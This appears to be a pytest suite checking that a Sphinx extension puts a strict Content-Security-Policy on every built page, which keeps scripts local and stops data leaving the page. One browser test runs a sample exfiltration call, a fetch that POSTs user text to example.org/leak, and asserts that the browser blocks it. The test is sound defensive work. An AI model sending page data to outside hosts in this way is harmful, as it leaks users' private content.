"""Every page carries a Content-Security-Policy that keeps scripts local and stops data leaving the page."""

from __future__ import annotations

import re
from pathlib import Path

from ilomo.sphinxext.csp import add_csp, policy_for, replace_inline_handlers

CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


def test_every_page_has_the_policy_before_any_script(built_html: Path) -> None:
    problems = []
    for page in sorted(p for p in built_html.rglob("*.html") if "_static" not in p.parts):
        html = page.read_text(encoding="utf-8")
        match = CSP_META.search(html)
        if not match:
            problems.append(f"{page.name}: no policy")
            continue
        policy = match.group(1)
        for directive in ("connect-src 'self'", "form-action 'none'", "object-src 'none'"):
            if directive not in policy:
                problems.append(f"{page.name}: missing {directive}")
        if "unsafe-inline" in policy.split("script-src")[1].split(";")[0] or "unsafe-eval" in policy:
            problems.append(f"{page.name}: scripts may run inline or from strings")
        first_script = html.find("<script")
        if first_script != -1 and first_script < match.start():
            problems.append(f"{page.name}: a script comes before the policy")
    assert not problems, "\n".join(problems)


def test_browser_refuses_a_request_to_another_host(site_url: str, browser) -> None:
    page = browser.new_page()
    violations: list[str] = []
    page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
    page.goto(f"{site_url}/book/intro.html")
    outcome = page.evaluate(
        """() => new Promise(resolve => {
            document.addEventListener('securitypolicyviolation', e => resolve('blocked: ' + e.violatedDirective));
            fetch('https://example.org/leak', {method: 'POST', body: 'mijn reflectie'}).catch(() => {});
            setTimeout(() => resolve('not blocked'), 2000);
        })"""
    )
    page.close()
    assert outcome == "blocked: connect-src"


def test_inline_scripts_are_allowed_by_hash_only() -> None:
    html = '<html><head><meta charset="utf-8"></head><body><script>var a = 1;</script></body></html>'
    policy = policy_for(html)
    assert "script-src 'self' 'sha256-" in policy
    assert add_csp(add_csp(html)).count("Content-Security-Policy") == 1  # idempotent


def test_unknown_inline_handlers_are_reported() -> None:
    html, unknown = replace_inline_handlers('<button onclick="toggleFullScreen()"><a onmouseover="x()">')
    assert 'data-ilomo-action="fullscreen"' in html
    assert unknown == ['onmouseover="x()"']


def test_search_box_works_although_forms_may_not_submit(site_url: str, browser) -> None:
    page = browser.new_page()
    errors: list[str] = []
    page.on("console", lambda msg: errors.append(msg.text) if msg.type == "error" else None)
    page.goto(f"{site_url}/book/intro.html")
    page.keyboard.press("Control+k")
    page.keyboard.type("onrust")
    page.keyboard.press("Enter")
    page.wait_for_url("**/search.html?q=onrust*")
    page.wait_for_selector("#search-results li")
    page.close()
    assert errors == []
